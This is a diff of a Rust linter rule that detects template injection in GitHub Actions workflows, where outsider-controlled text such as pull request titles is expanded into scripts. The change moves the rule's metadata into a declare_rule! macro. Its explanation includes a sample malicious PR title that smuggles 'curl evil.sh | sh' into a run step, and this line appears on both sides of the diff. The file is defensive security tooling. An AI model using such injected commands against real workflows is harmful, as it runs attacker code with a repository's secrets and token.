@@ -1,5 +1,3 @@
-//! ci/template-injection
-
 use std::collections::HashMap;
 
 use super::{each_github, nth_key};
@@ -8,22 +6,19 @@ use crate::ci::flow::{ActionPort, Flow, DATA};
 use crate::ci::github::Step;
 use crate::ci::Scalar;
 use crate::context::Context;
-use crate::finding::{Level, Tier, Violation};
+use crate::finding::Violation;
 use crate::policy::{Params, PolicyError};
-use crate::rule::{Docs, Meta, OptionDoc, Rule, RuleDef, Scope};
+use crate::rule::{declare_rule, Rule};
 
-/// Registry entry.
-pub const RULE: RuleDef = RuleDef { meta: &META, build };
-
-static META: Meta = Meta {
+declare_rule! {
     id: "ci/template-injection",
     summary: "Attacker-controlled `${{ }}` expressions are not expanded into scripts",
-    default_level: Level::Error,
-    tier: Tier::Gold,
-    scope: Scope::PerFile,
-    fixable: false,
-    options: &[
-        OptionDoc {
+    level: Error,
+    tier: Gold,
+    scope: PerFile,
+    build: build,
+    options: [
+        {
             name: "sinks",
             kind: "array of strings",
             help: "Action inputs that evaluate their value as code, `\"owner/repo:input\"` \
@@ -31,14 +26,14 @@ static META: Meta = Meta {
                    built-in list of `crates/core/rules/ci/injection-sinks.toml`; a policy extending a pack \
                    adds more with `extend-sinks`. Default: none beyond the built-in list.",
         },
-        OptionDoc {
+        {
             name: "sources",
             kind: "array of strings",
             help: "Action outputs that carry an outsider's text, `\"owner/repo:output\"` \
                    (`*` for every output), added to the built-in list (changed file names, \
                    branch names). Default: none beyond the built-in list.",
         },
-        OptionDoc {
+        {
             name: "untrusted-inputs",
             kind: "boolean",
             help: "Treat `inputs.*` of reusable workflows, composite actions and manual runs \
@@ -49,45 +44,43 @@ static META: Meta = Meta {
                    other repositories call with values this rule cannot see.",
         },
     ],
-    docs: Docs {
-        what: "A `${{ }}` expression that reads a context an outsider controls, inside a \
-               step's `run:` script (in workflows and composite actions) or an input of an \
-               action that evaluates it as code: `script` of `actions/github-script`, `cmd` \
-               of `mikefarah/yq`, `script` of `Amadevus/pwsh-script`, `inlineScript` of \
-               `azure/cli` and `azure/powershell`, `run` and `options` of \
-               `addnab/docker-run-action`, the templates of `tibdex/backport` and the rest \
-               of the list in `crates/core/rules/ci/injection-sinks.toml` (taken from zizmor's list, \
-               itself from GitHub's CodeQL models, both MIT-licensed), to which the \
-               `sinks` option adds. The value is followed through `env:` at workflow, job \
-               and step level (the innermost definition wins, as in GitHub: \
-               `TITLE: ${{ github.event.issue.title }}` then `run: echo ${{ env.TITLE }}` \
-               is reported at the `env.TITLE` expression), through step outputs \
-               (`steps.X.outputs.Y` where step `X` writes `Y=...` from such a value or \
-               variable to `$GITHUB_OUTPUT`, or is an action whose outputs carry an \
-               outsider's text, such as `tj-actions/changed-files`), and through a job's \
-               `outputs:` read as `needs.J.outputs.Y`. Writes to `$GITHUB_ENV` and values \
-               computed by programs are not followed. The contexts: titles and bodies of issues, pull \
-               requests, comments, reviews and discussions \
-               (`github.event.pull_request.title`, `github.event.comment.body`, ...), branch \
-               names (`github.head_ref`, `github.event.pull_request.head.ref` and `.label`, \
-               `github.event.workflow_run.head_branch`), commit messages and authors \
-               (`github.event.head_commit.message`, `github.event.commits[*].author.email`, \
-               ...), wiki page names (`github.event.pages[*].page_name`), and a whole event \
-               object passed to `toJSON`. Uses that only yield a boolean (`contains(...)`, \
-               comparisons, `!`) are not reported. Each finding points at the exact line and \
-               column of the expression, inside `|` and `>` block scalars and quoted strings \
-               too (for an alias, at the alias).",
-        why: "GitHub substitutes the expression's value into the script text before the \
-              shell runs it. A pull request titled `a\"; curl evil.sh | sh; echo \"` then \
-              runs the attacker's commands, with the workflow's secrets and token.",
-        example: "```yaml\n- run: |\n    echo \"Title: ${{ github.event.pull_request.title \
-                  }}\"   # reported\n- env:\n    TITLE: ${{ github.event.pull_request.title \
-                  }}\n  run: echo \"Title: $TITLE\"                          # fine\n```",
-        fix: "Pass the value through an environment variable (`env: TITLE: ${{ ... }}`) and \
-              use it quoted in the script (`\"$TITLE\"`), or as `process.env.TITLE` in \
-              `github-script`. The shell then treats it as data, never as code.",
-    },
-};
+    what: "A `${{ }}` expression that reads a context an outsider controls, inside a \
+           step's `run:` script (in workflows and composite actions) or an input of an \
+           action that evaluates it as code: `script` of `actions/github-script`, `cmd` \
+           of `mikefarah/yq`, `script` of `Amadevus/pwsh-script`, `inlineScript` of \
+           `azure/cli` and `azure/powershell`, `run` and `options` of \
+           `addnab/docker-run-action`, the templates of `tibdex/backport` and the rest \
+           of the list in `crates/core/rules/ci/injection-sinks.toml` (taken from zizmor's list, \
+           itself from GitHub's CodeQL models, both MIT-licensed), to which the \
+           `sinks` option adds. The value is followed through `env:` at workflow, job \
+           and step level (the innermost definition wins, as in GitHub: \
+           `TITLE: ${{ github.event.issue.title }}` then `run: echo ${{ env.TITLE }}` \
+           is reported at the `env.TITLE` expression), through step outputs \
+           (`steps.X.outputs.Y` where step `X` writes `Y=...` from such a value or \
+           variable to `$GITHUB_OUTPUT`, or is an action whose outputs carry an \
+           outsider's text, such as `tj-actions/changed-files`), and through a job's \
+           `outputs:` read as `needs.J.outputs.Y`. Writes to `$GITHUB_ENV` and values \
+           computed by programs are not followed. The contexts: titles and bodies of issues, pull \
+           requests, comments, reviews and discussions \
+           (`github.event.pull_request.title`, `github.event.comment.body`, ...), branch \
+           names (`github.head_ref`, `github.event.pull_request.head.ref` and `.label`, \
+           `github.event.workflow_run.head_branch`), commit messages and authors \
+           (`github.event.head_commit.message`, `github.event.commits[*].author.email`, \
+           ...), wiki page names (`github.event.pages[*].page_name`), and a whole event \
+           object passed to `toJSON`. Uses that only yield a boolean (`contains(...)`, \
+           comparisons, `!`) are not reported. Each finding points at the exact line and \
+           column of the expression, inside `|` and `>` block scalars and quoted strings \
+           too (for an alias, at the alias).",
+    why: "GitHub substitutes the expression's value into the script text before the \
+          shell runs it. A pull request titled `a\"; curl evil.sh | sh; echo \"` then \
+          runs the attacker's commands, with the workflow's secrets and token.",
+    example: "```yaml\n- run: |\n    echo \"Title: ${{ github.event.pull_request.title \
+              }}\"   # reported\n- env:\n    TITLE: ${{ github.event.pull_request.title \
+              }}\n  run: echo \"Title: $TITLE\"                          # fine\n```",
+    fix: "Pass the value through an environment variable (`env: TITLE: ${{ ... }}`) and \
+          use it quoted in the script (`\"$TITLE\"`), or as `process.env.TITLE` in \
+          `github-script`. The shell then treats it as data, never as code.",
+}
 
 struct TemplateInjection {
     /// Action inputs evaluated as code: the built-in list and the policy's.
